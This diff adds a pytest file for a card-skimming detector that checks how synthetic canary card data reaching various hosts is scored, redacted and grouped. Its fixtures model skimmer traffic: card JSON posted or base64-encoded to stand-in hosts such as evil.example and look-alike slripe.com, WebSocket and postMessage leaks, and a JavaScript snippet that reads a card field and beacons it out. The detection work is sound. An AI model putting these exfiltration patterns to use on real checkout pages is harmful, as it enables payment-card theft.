@@ -1,0 +1,266 @@
+"""From a capture to canary findings (no browser): the severity mapping, the session-replay
+exception to the verdict rule, redaction, WebSocket frames, frames, storage and gate notes."""
+
+from __future__ import annotations
+
+import base64
+import json
+import re
+
+import pytest
+
+from skimscan.models import (
+    Canary,
+    Confidence,
+    Finding,
+    HostClass,
+    InstrumentEvent,
+    PageCapture,
+    RequestRecord,
+    ScriptKind,
+    ScriptSource,
+    Severity,
+    Verdict,
+    WebSocketMessage,
+)
+from skimscan.pipeline import Engine, EngineOptions
+from skimscan.policy.policy import SitePolicy
+from skimscan.scanner import (
+    analyze_capture,
+    canary_findings,
+    classifier_for,
+    gate_notes,
+    page_verdict,
+    redact_url,
+)
+
+PAGE = "https://shop.example/checkout"
+CANARY = Canary.generate(seed=21, year=2026)
+CARD = json.dumps({"cc_number": CANARY.pan, "cvv": CANARY.cvv, "exp": CANARY.expiry})
+PAN_LIKE = re.compile(r"(?<!\d)(411111|424242)\d{10}(?!\d)")
+
+
+def request(url: str, body: str | None = None, *, script: str | None = "s1",
+            quarantined: bool = True, resource: str = "fetch", method: str = "POST",
+            status: int | None = 204) -> RequestRecord:
+    classify = classifier_for(PAGE, SitePolicy()).classify
+    host = url.split("/")[2]
+    return RequestRecord(url=url, method=method, host=host, resource_type=resource,
+                         script=script, status=status, quarantined=quarantined,
+                         host_class=classify(url).host_class,
+                         body=body.encode() if body is not None else None)
+
+
+def findings_for(*requests: RequestRecord, **capture: object) -> tuple[list[Finding],
+                                                                       tuple[RequestRecord, ...]]:
+    cap = PageCapture(url=PAGE, final_url=PAGE, status=200, requests=requests, canary=CANARY,
+                      **capture)  # type: ignore[arg-type]
+    classify = classifier_for(PAGE, SitePolicy()).classify
+    return canary_findings(cap, requests, classify, {"s1": "https://shop.example/app.js"})
+
+
+def test_the_card_to_a_look_alike_is_critical_with_its_evidence() -> None:
+    r = request("https://slripe.com/v1/collect", CARD)
+    [f], marked = findings_for(r)
+    assert (f.rule, f.severity, f.confidence) == ("canary-exfiltration", Severity.CRITICAL,
+                                                  Confidence.HIGH)
+    assert f.script == "s1" and marked[0].carries_canary
+    ev = f.evidence
+    assert ev["host"] == "slripe.com" and ev["host_class"] == "look-alike"
+    assert ev["lookalike_of"] == "stripe.com" and ev["encoding"] == "plain"
+    assert ev["fields"] == ["cvv", "expiry"] and ev["channel"] == "fetch"
+    assert ev["request"]["method"] == "POST" and ev["quarantined"] is True and ev["sent"] == 0
+    assert "slripe.com" in f.message and "https://shop.example/app.js" in f.message
+    assert not PAN_LIKE.search(json.dumps(ev)) and not PAN_LIKE.search(f.message)
+
+
+@pytest.mark.parametrize(
+    ("url", "severity", "tags"),
+    [
+        ("https://evil.example/c", Severity.CRITICAL, set()),  # unknown
+        ("https://www.google-analytics.com/collect", Severity.CRITICAL, set()),  # trusted channel
+        ("https://api.telegram.org/bot1/sendMessage", Severity.CRITICAL, set()),
+        ("https://rs.fullstory.com/rec/bundle", Severity.HIGH, {"data-leak"}),  # session replay
+    ],
+)
+def test_severity_by_destination(url: str, severity: Severity, tags: set[str]) -> None:
+    [f], _ = findings_for(request(url, CARD))
+    assert f.severity is severity and f.confidence is Confidence.HIGH
+    assert tags <= set(f.tags) and ("data-leak" in f.tags) == bool(tags)
+
+
+@pytest.mark.parametrize("url", ["https://shop.example/api/pay", "https://cdn.shop.example/x",
+                                 "https://api.stripe.com/v1/tokens"])
+def test_the_merchant_and_its_processor_may_receive_it(url: str) -> None:
+    found, marked = findings_for(request(url, CARD))
+    assert found == [] and marked[0].carries_canary
+
+
+def test_approved_hosts_may_receive_it() -> None:
+    site = SitePolicy(approved_hosts=("vault.partner.example",))
+    classify = classifier_for(PAGE, site).classify
+    r = request("https://vault.partner.example/v", CARD)
+    r2 = RequestRecord(r.url, r.method, r.host, r.resource_type, r.script, status=204,
+                       host_class=classify(r.url).host_class, body=r.body)
+    cap = PageCapture(url=PAGE, final_url=PAGE, status=200, requests=(r2,), canary=CANARY)
+    assert canary_findings(cap, (r2,), classify, {})[0] == []
+
+
+def test_part_of_the_number_is_medium() -> None:
+    partial = f"bin={CANARY.bin}&last4={CANARY.last4}"
+    [f], _ = findings_for(request("https://evil.example/c?" + partial, None, method="GET",
+                                  resource="image"))
+    assert (f.severity, f.confidence) == (Severity.MEDIUM, Confidence.MEDIUM)
+    assert "first 6" in f.title
+
+
+def test_encoded_in_the_url_and_redacted_in_the_report() -> None:
+    token = base64.urlsafe_b64encode(CARD.encode()).decode().rstrip("=")
+    [f], _ = findings_for(request(f"https://evil.example/p.gif?v=1&d={token}", None,
+                                  method="GET", resource="image"))
+    assert f.evidence["where"] == "url"
+    assert f.evidence["request"]["url"] == (
+        f"https://evil.example/p.gif?v=1&d=[canary: {f.evidence['encoding']}]")
+    assert token not in json.dumps(f.evidence)
+    assert redact_url("https://a.example/x/y?q=1", CANARY) == "https://a.example/x/y?q=1"
+
+
+def test_requests_are_grouped_by_host_and_script_and_counted() -> None:
+    rs = [request("https://evil.example/a", CARD), request("https://evil.example/b", CARD),
+          request("https://evil.example/c", CARD, script="s2"),
+          request("https://other.example/d", base64.b64encode(CARD.encode()).decode())]
+    found, _ = findings_for(*rs)
+    summary = sorted((f.evidence["host"], f.script, f.evidence["requests"]) for f in found)
+    assert summary == [("evil.example", "s1", 2), ("evil.example", "s2", 1),
+                       ("other.example", "s1", 1)]
+
+
+def test_forwarded_requests_are_not_called_quarantined() -> None:
+    [f], _ = findings_for(request("https://evil.example/a", CARD, quarantined=False, status=200))
+    assert f.evidence["quarantined"] is False and f.evidence["sent"] == 1
+    assert "never left" not in f.message
+    # a request cancelled before it was sent (no status) did not leave either
+    [g], _ = findings_for(request("https://evil.example/a", CARD, quarantined=False,
+                                  status=None))
+    assert g.evidence["quarantined"] is True
+
+
+def test_websocket_frames_and_swallowed_sockets() -> None:
+    socket = request("wss://livechatlnc.example/ws", None, method="GET", resource="websocket",
+                     status=101, quarantined=False)
+    frames = (WebSocketMessage("wss://livechatlnc.example/ws", "hello", "s1"),
+              WebSocketMessage("wss://livechatlnc.example/ws", CARD, "s1", quarantined=True),
+              WebSocketMessage("wss://new.example/ws", CARD[::-1], "s1", quarantined=True))
+    found, marked = findings_for(socket, websocket_messages=frames)
+    by_host = {f.evidence["host"]: f for f in found}
+    assert set(by_host) == {"livechatlnc.example", "new.example"}
+    assert by_host["livechatlnc.example"].evidence["channel"] == "websocket"
+    assert by_host["new.example"].evidence["encoding"] == "reversed"
+    assert all(f.evidence["quarantined"] for f in found)
+    assert marked[0].carries_canary  # the socket's request is marked
+    assert any(r.host == "new.example" and r.carries_canary for r in marked)
+
+
+def test_instrumentation_names_the_sender_when_the_network_cannot() -> None:
+    r = request("https://evil.example/form", f"d={CARD}", script=None, resource="document")
+    sink = InstrumentEvent("sink", {"sink": "form-submit", "url": "https://evil.example/form"},
+                           script="s3")
+    [f], _ = findings_for(r, instrumentation=(sink,))
+    assert f.script == "s3"
+
+
+def test_postmessage_to_an_untrusted_frame_and_storage() -> None:
+    events = (
+        InstrumentEvent("sink", {"sink": "postMessage", "origin": "https://relay.evil.example"},
+                        script="s1", data=CARD),
+        InstrumentEvent("sink", {"sink": "postMessage", "origin": "https://js.stripe.com"},
+                        script="s1", data=CARD),  # the processor's frame: expected
+        InstrumentEvent("sink", {"sink": "message-received", "origin": PAGE},
+                        script="s4", frame="https://relay.evil.example/frame.html", data=CARD),
+        InstrumentEvent("storage", {"store": "local", "key": "_c"}, script="s5",
+                        data=base64.b64encode(CARD.encode()).decode()),
+        InstrumentEvent("storage", {"store": "local", "key": "_c", "via": "snapshot"},
+                        data=base64.b64encode(CARD.encode()).decode()),
+        InstrumentEvent("storage", {"store": "cookie", "key": "sid"}, data="sid=1"),
+    )
+    found, _ = findings_for(instrumentation=events)
+    rules = sorted((f.rule, f.script) for f in found)
+    assert rules == [("canary-in-storage", "s5"), ("canary-to-frame", "s1"),
+                     ("canary-to-frame", "s4")]
+    storage = next(f for f in found if f.rule == "canary-in-storage")
+    assert storage.severity is Severity.MEDIUM and storage.evidence["encoding"] == "base64"
+
+
+def test_code_loaded_only_after_typing() -> None:
+    r = request("https://cdn.evil.example/stage2.js", None, method="GET", resource="script")
+    found, _ = findings_for(r)
+    [f] = [f for f in found if f.rule == "canary-triggered-load"]
+    assert (f.severity, f.confidence) == (Severity.MEDIUM, Confidence.MEDIUM)
+    assert "--live" in f.message
+    ok = request("https://www.googletagmanager.com/gtm.js", None, method="GET",
+                 resource="script")
+    assert findings_for(ok)[0] == []  # well-known services load code lazily all the time
+
+
+def leak(severity: Severity = Severity.HIGH) -> Finding:
+    return Finding("canary-exfiltration", "t", severity, Confidence.HIGH, "m",
+                   tags=("canary", "data-leak"))
+
+
+def other(severity: Severity, confidence: Confidence = Confidence.MEDIUM) -> Finding:
+    return Finding("x", "t", severity, confidence, "m")
+
+
+def test_a_session_replay_leak_is_suspicious_not_malicious() -> None:
+    assert page_verdict([leak()]) is Verdict.SUSPICIOUS
+    assert page_verdict([leak(), other(Severity.MEDIUM)]) is Verdict.SUSPICIOUS
+    assert page_verdict([leak(), other(Severity.CRITICAL)]) is Verdict.MALICIOUS
+    assert page_verdict([other(Severity.HIGH)]) is Verdict.MALICIOUS
+    assert page_verdict([other(Severity.LOW)]) is Verdict.CLEAN
+    assert page_verdict([]) is Verdict.CLEAN
+    from dataclasses import replace
+    assert page_verdict([replace(leak(), suppressed="accepted")]) is Verdict.CLEAN
+
+
+def test_analyze_capture_end_to_end() -> None:
+    code = ("document.getElementById('pay').addEventListener('mouseup', function () {"
+            "  var v = document.getElementById('cc_number').value;"
+            "  navigator.sendBeacon('https://rs.fullstory.com/rec', v); });")
+    script = ScriptSource("s1", code, "https://edge.fullstory.com/s/fs.js", ScriptKind.EXTERNAL,
+                          frame=PAGE, sha256="0" * 64, size=len(code))
+    r = request("https://rs.fullstory.com/rec", CARD, resource="ping")
+    gate = InstrumentEvent("gate", {"check": "webdriver"}, script="s1")
+    cap = PageCapture(url=PAGE, final_url=PAGE, status=200, scripts=(script,), requests=(r,),
+                      canary=CANARY, instrumentation=(gate,), interaction=("typed it",),
+                      gates=("script s1 checks navigator.webdriver (satisfied)",))
+    report = analyze_capture(cap, Engine(EngineOptions(use_disk_cache=False, jobs=1)),
+                             SitePolicy())
+    canary = [f for f in report.findings if f.rule == "canary-exfiltration"]
+    assert canary and canary[0].severity is Severity.HIGH and "data-leak" in canary[0].tags
+    assert report.verdict in (Verdict.SUSPICIOUS, Verdict.MALICIOUS)
+    if not any(f.is_blocking and "data-leak" not in f.tags for f in report.findings):
+        assert report.verdict is Verdict.SUSPICIOUS
+    assert report.requests[0].carries_canary and report.requests[0].host_class is \
+        HostClass.WELL_KNOWN
+    assert report.page["canary"]["pan"] == CANARY.masked_pan
+    assert report.page["interaction"] == ["typed it"]
+    assert "script s1 checks navigator.webdriver (satisfied)" in report.notes
+
+
+def test_gate_notes_for_scripts_that_sent_nothing() -> None:
+    cap = PageCapture(url=PAGE, final_url=PAGE, status=200, canary=CANARY)
+    url_gate = Finding("checkout-url-gate", "t", Severity.LOW, Confidence.MEDIUM,
+                       "URL gate on onestep", script="s2", evidence={"pattern": "onestep"})
+    hit = Finding("checkout-url-gate", "t", Severity.LOW, Confidence.MEDIUM, "m", script="s3",
+                  evidence={"pattern": "check.?out"})
+    visitor = Finding("gated-card-collector", "t", Severity.HIGH, Confidence.MEDIUM, "m",
+                      script="s4", evidence={"store": "cookie", "key": "_seen"})
+    sent = Finding("canary-exfiltration", "t", Severity.CRITICAL, Confidence.HIGH, "m",
+                   script="s4")
+    notes = gate_notes(cap, [url_gate, hit, visitor, sent], {"s2": "https://x.example/a.js"})
+    assert any("s2 (https://x.example/a.js) runs only on URLs matching 'onestep'" in n
+               and "does not match" in n for n in notes)
+    assert any("s3" in n and "matches it, yet nothing was sent" in n for n in notes)
+    assert not any("s4" in n for n in notes)  # it did send: no gate stopped it
+    plain = PageCapture(url=PAGE, final_url=PAGE, status=200)
+    assert gate_notes(plain, [url_gate], {}) == []  # no shopping, no claims about gates
